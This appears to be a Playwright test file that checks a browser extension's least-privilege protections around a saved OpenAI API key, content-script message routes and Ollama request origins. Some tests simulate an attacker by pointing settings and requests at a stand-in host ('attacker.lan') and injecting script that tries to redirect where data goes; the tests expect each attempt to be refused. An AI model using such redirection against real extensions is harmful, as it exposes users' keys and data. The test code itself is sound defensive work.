import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BrowserContext, Page, Worker } from '@playwright/test';
import { startFakeOpenAi } from '../peers/openai';
import { EDITOR_URL, expect, panelFrame, test as base } from './fixtures';
import { readSecretRow } from './helpers/extension-db';
import { saveModelSettings, useApiKey } from './helpers/model-settings';

/**
 * Issue 13: least privilege inside the extension. The key-to-origin rule and the route table
 * are attacked the way the security review did: from the options page with an edited,
 * unsaved address, and from the content script's own world on the listing editor.
 */

const SAVED_KEY = 'sk-lp-saved-0123456789abcdef';
/** A second server standing in for an attacker's, at a hostname of its own. */
const ATTACKER_BASE_URL = 'http://attacker.lan/v1';

type Server = Awaited<ReturnType<typeof startFakeOpenAi>>;

const test = base.extend<{ saved: Server; attacker: Server }>({
  // eslint-disable-next-line no-empty-pattern
  saved: async ({}, use) => {
    const server = await startFakeOpenAi();
    server.openai.apiKey = SAVED_KEY;
    await use(server);
    await server.close();
  },
  // eslint-disable-next-line no-empty-pattern
  attacker: async ({}, use) => {
    const server = await startFakeOpenAi();
    server.openai.apiKey = 'sk-attacker-accepts-only-this';
    await use(server);
    await server.close();
  },
  extraHosts: async ({ attacker }, use) => {
    await use({ 'attacker.lan': Number(new URL(attacker.baseUrl).port) });
  },
});

/** The saved endpoint and its key, entered on the options page the way a seller does. */
async function saveEndpointAndKey(
  worker: Parameters<typeof saveModelSettings>[0],
  openExtensionPage: (path: 'options.html') => Promise<Page>,
  saved: Server,
): Promise<Page> {
  await saveModelSettings(worker, {
    provider: 'openai',
    openaiBaseUrl: saved.baseUrl,
    openaiModel: 'gpt-4o-mini',
  });
  const options = await openExtensionPage('options.html');
  await useApiKey(options, SAVED_KEY);
  await expect(options.getByTestId('openai-key-status')).toHaveText(
    `A key is saved for ${new URL(saved.baseUrl).origin}.`,
  );
  return options;
}

test('Load models and Test connection against an unsaved address never send the saved key there', async ({
  attacker,
  openExtensionPage,
  saved,
  serviceWorker,
}) => {
  const options = await saveEndpointAndKey(serviceWorker, openExtensionPage, saved);
  await options.getByLabel('Endpoint base URL').fill(ATTACKER_BASE_URL);
  await expect(options.getByTestId('openai-key-status')).toContainText(
    `The saved key is for ${new URL(saved.baseUrl).origin} only: it is not sent to http://attacker.lan.`,
  );
  await expect(options.getByTestId('openai-key-unencrypted')).toContainText(
    'the key and your listings would travel unencrypted',
  );

  const loadEndpointModels = options
    .getByRole('button', { name: 'Load models from the server' })
    .nth(1);
  await loadEndpointModels.click();
  await expect(options.getByTestId('model-error')).toBeVisible();
  await expect.poll(() => attacker.openai.requests.length).toBeGreaterThan(0);
  await options.getByRole('button', { name: 'Test connection' }).click();
  await expect(options.getByTestId('model-error')).toHaveCount(2);
  await expect(options.getByRole('button', { name: 'Test connection' })).toBeEnabled();
  expect(attacker.openai.requests.map((r) => r.authorization)).not.toContain(`Bearer ${SAVED_KEY}`);
  expect(new Set(attacker.openai.requests.map((r) => r.authorization))).toEqual(
    new Set([undefined]),
  );

  // A key typed for this test (not saved) is the one that goes there.
  await options.getByLabel('API key').fill('sk-attacker-accepts-only-this');
  await loadEndpointModels.click();
  await expect(options.getByTestId('openai-model-count')).toHaveText('2 models found');
  expect(attacker.openai.requests.at(-1)!.authorization).toBe(
    'Bearer sk-attacker-accepts-only-this',
  );
  // …and the saved key still belongs to the saved endpoint only.
  expect(await readSecretRow(serviceWorker, 'openaiApiKey')).toEqual({
    key: SAVED_KEY,
    origin: new URL(saved.baseUrl).origin,
  });
  expect(attacker.openai.requests.map((r) => r.authorization)).not.toContain(`Bearer ${SAVED_KEY}`);
});

test('a plain http address on the internet is refused before any key is typed into it', async ({
  openExtensionPage,
}) => {
  const options = await openExtensionPage('options.html');
  await options.getByLabel('Endpoint base URL').fill('http://api.example.com/v1');
  await options.getByLabel('API key').fill('sk-never-sent');
  await options.getByRole('button', { name: 'Use this key' }).click();
  await expect(options.getByTestId('openai-key-error')).toContainText(
    'Use https:// for a server outside your computer and local network',
  );
  await expect(options.getByTestId('openai-key-status')).toHaveText('No key saved.');
});

/** Runs `expression` in the content script's isolated world on `page` (not the page's own). */
async function inContentScript<T>(
  context: BrowserContext,
  page: Page,
  extensionId: string,
  expression: string,
): Promise<T> {
  const cdp = await context.newCDPSession(page);
  const worlds: { id: number; origin: string; auxData?: { type?: string } }[] = [];
  cdp.on('Runtime.executionContextCreated', ({ context: world }) => worlds.push(world));
  await cdp.send('Runtime.enable');
  const world = worlds.find(
    (w) => w.auxData?.type === 'isolated' && w.origin === `chrome-extension://${extensionId}`,
  );
  if (!world) throw new Error('The content script’s world was not found');
  const { result, exceptionDetails } = await cdp.send('Runtime.evaluate', {
    expression,
    contextId: world.id,
    awaitPromise: true,
    returnByValue: true,
  });
  if (exceptionDetails) throw new Error(exceptionDetails.exception?.description ?? 'failed');
  return result.value as T;
}

test('the content script on the editor reaches only the panel’s routes, and can’t redirect where data goes', async ({
  attacker,
  context,
  extensionId,
  openExtensionPage,
  page,
  saved,
  serviceWorker,
}) => {
  (await saveEndpointAndKey(serviceWorker, openExtensionPage, saved)).close();
  await page.goto(EDITOR_URL);
  await expect(panelFrame(page).getByTestId('score')).toBeVisible();

  const answers = await inContentScript<Record<string, unknown>>(
    context,
    page,
    extensionId,
    `(async () => {
      const ask = (type, data) =>
        chrome.runtime
          .sendMessage({ id: 1, type, data, timestamp: Date.now() })
          .catch((error) => ({ err: { message: String(error) } }));
      const write = await chrome.storage.local
        .set({ modelSettings: { provider: 'openai', openaiBaseUrl: '${ATTACKER_BASE_URL}' } })
        .then(() => 'written', (error) => String(error.message ?? error));
      return {
        listModels: await ask('listModels', { engine: 'openai', address: '${ATTACKER_BASE_URL}' }),
        testModel: await ask('testModel', { settings: {} }),
        forgetKey: await ask('saveOpenaiApiKey', { apiKey: '' }),
        disconnect: await ask('disconnectEtsy'),
        otherListing: await ask('getEtsyListing', { listingId: 2345678901 }),
        modelStatus: await ask('getModelStatus'),
        connection: await ask('getEtsyConnection'),
        storageWrite: write,
      };
    })()`,
  );

  for (const route of ['listModels', 'testModel', 'forgetKey', 'disconnect'] as const) {
    expect(answers[route], route).toMatchObject({
      err: { message: expect.stringMatching(/^Refused ".+": not allowed from editor senders$/) },
    });
  }
  expect(answers.otherListing).toMatchObject({
    err: { message: 'Refused "getEtsyListing": only for the listing open in the calling tab' },
  });
  expect(answers.modelStatus).toMatchObject({ res: { engine: 'openai', ready: true } });
  expect(answers.connection).toMatchObject({ res: { state: 'not_configured' } });
  expect(answers.storageWrite).toBe('Access to storage is not allowed from this context.');

  // Nothing reached the attacker, the key is still saved, and the settings still point home.
  expect(attacker.openai.requests).toEqual([]);
  expect(await readSecretRow(serviceWorker, 'openaiApiKey')).toMatchObject({ key: SAVED_KEY });
  const stored = await serviceWorker.evaluate(() => chrome.storage.local.get('modelSettings'));
  expect(stored.modelSettings).toMatchObject({ openaiBaseUrl: saved.baseUrl });
});

/** A second, unrelated extension with access to Ollama's default address. */
function otherExtensionDir(): string {
  const dir = mkdtempSync(join(tmpdir(), 'other-extension-'));
  writeFileSync(
    join(dir, 'manifest.json'),
    JSON.stringify({
      manifest_version: 3,
      name: 'Another extension',
      version: '1.0.0',
      host_permissions: ['http://localhost:11434/*'],
      background: { service_worker: 'worker.js' },
    }),
  );
  writeFileSync(join(dir, 'worker.js'), '// Fetches on demand from the test.\n');
  return dir;
}

/** A POST to Ollama's chat from `worker`; resolves with the HTTP status, or what stopped it. */
function chatFrom(worker: Worker): Promise<string> {
  return worker.evaluate(async () => {
    try {
      const response = await fetch('http://localhost:11434/api/chat', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ model: 'llama3.2', messages: [], stream: false }),
      });
      return String(response.status);
    } catch (error) {
      return `blocked: ${String(error)}`;
    }
  });
}

async function workerAt(context: BrowserContext, path: string): Promise<Worker> {
  const at = (worker: Worker) => new URL(worker.url()).pathname === path;
  return (
    context.serviceWorkers().find(at) ??
    (await context.waitForEvent('serviceworker', { predicate: at }))
  );
}

test.describe('the Ollama Origin rule is this extension’s alone', () => {
  test.use({ extraExtensions: [otherExtensionDir()] });

  test('a page’s and another extension’s service-worker requests to Ollama keep their Origin', async ({
    context,
    ollama,
    page,
    serviceWorker,
  }) => {
    await saveModelSettings(serviceWorker, { provider: 'ollama' });
    await expect
      .poll(() => serviceWorker.evaluate(() => chrome.declarativeNetRequest.getSessionRules()))
      .toEqual([
        expect.objectContaining({
          condition: expect.objectContaining({ urlFilter: '|http://localhost:11434/' }),
        }),
      ]);
    const chatOrigins = () =>
      ollama.requests.filter((r) => r.path === '/api/chat').map((r) => r.origin);

    // Etsy's own service worker (or one an attacker registered there): its requests come
    // from no tab, like the extension's own, and the extension has host access to the site.
    await page.goto('https://www.etsy.com/your/account');
    await page.evaluate(() => navigator.serviceWorker.register('/your/service-worker.js'));
    const pageWorker = await workerAt(context, '/your/service-worker.js');
    const outcome = await chatFrom(pageWorker);
    test.info().annotations.push({ type: 'page service worker', description: outcome });
    expect(chatOrigins().length).toBeGreaterThan(0);
    expect(new Set(chatOrigins())).toEqual(new Set(['https://www.etsy.com']));
    expect(ollama.chats).toHaveLength(0);

    // Another extension's service worker.
    const other = await workerAt(context, '/worker.js');
    expect(await chatFrom(other)).toBe('403');
    expect(chatOrigins().at(-1)).toBe(`chrome-extension://${new URL(other.url()).host}`);

    // The extension's own requests are still let through.
    expect(await chatFrom(serviceWorker)).toBe('200');
    expect(chatOrigins().at(-1)).toBe('http://localhost:11434');
  });
});

test('bad drafts on the options page each end in a shown error, never a spinner', async ({
  openExtensionPage,
}) => {
  const options = await openExtensionPage('options.html');
  const loadOllamaModels = options
    .getByRole('button', { name: 'Load models from the server' })
    .first();

  // A cleared temperature has nothing to do with listing models: they load.
  await options.getByLabel('Temperature').fill('');
  await loadOllamaModels.click();
  await expect(options.getByTestId('ollama-model-count')).toHaveText('1 models found');

  // An address without a scheme: the reason is shown and the button comes back.
  await options.getByLabel('Ollama address').fill('localhost:11434');
  await loadOllamaModels.click();
  await expect(options.getByTestId('model-error')).toContainText(
    'Can’t load models from “localhost:11434”: Enter a full address starting with http:// or https://',
  );
  await expect(loadOllamaModels).toHaveText('Load models from the server');

  // Test connection names every field to fix.
  await options.getByRole('button', { name: 'Test connection' }).click();
  await expect(options.getByTestId('model-error').last()).toContainText(
    'Fix these fields first. Ollama address: Enter a full address starting with http:// or https:// Temperature:',
  );
  await expect(options.getByRole('button', { name: 'Test connection' })).toHaveText(
    'Test connection',
  );
});
